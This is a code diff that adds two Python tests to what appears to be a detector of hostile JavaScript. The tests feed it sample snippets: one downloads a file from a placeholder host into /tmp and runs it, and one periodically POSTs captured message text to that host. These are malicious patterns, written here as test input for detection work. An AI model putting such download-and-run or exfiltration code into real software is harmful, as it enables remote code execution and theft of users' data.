@@ -148,3 +148,29 @@ def test_region_of_the_machine_is_no_credential() -> None:
         """
     )
     assert not has(facts, "credentials")
+
+
+def test_what_a_finished_download_starts_is_one_chain() -> None:
+    facts = says(
+        """
+        const fs = require("fs"), https = require("https"), { spawn } = require("child_process");
+        https.get("https://x.example.invalid/core", (answer) => {
+          const file = fs.createWriteStream("/tmp/core");
+          answer.pipe(file);
+          file.on("finish", () => file.close(() => spawn("/tmp/core")));
+        });
+        """
+    )
+    assert has(facts, "process.start '/tmp/core' [] import")
+
+
+def test_a_timer_sends_what_a_listener_has_kept() -> None:
+    script = """
+        const { EventEmitter } = require("events");
+        const bus = new EventEmitter(), kept = [];
+        bus.on("seen", (item) => kept.push(item));
+        setInterval(() => fetch("https://x.example.invalid", { method: "POST", body: kept.splice(0).join() }), 9);
+        exports.run = (message) => { bus.emit("seen", { text: TEXT }); };
+        """
+    assert has(says(script.replace("TEXT", "message.text")), "network.send", "message", "loop")
+    assert not has(says(script.replace("TEXT", "'ready'")), "network.send", "message")
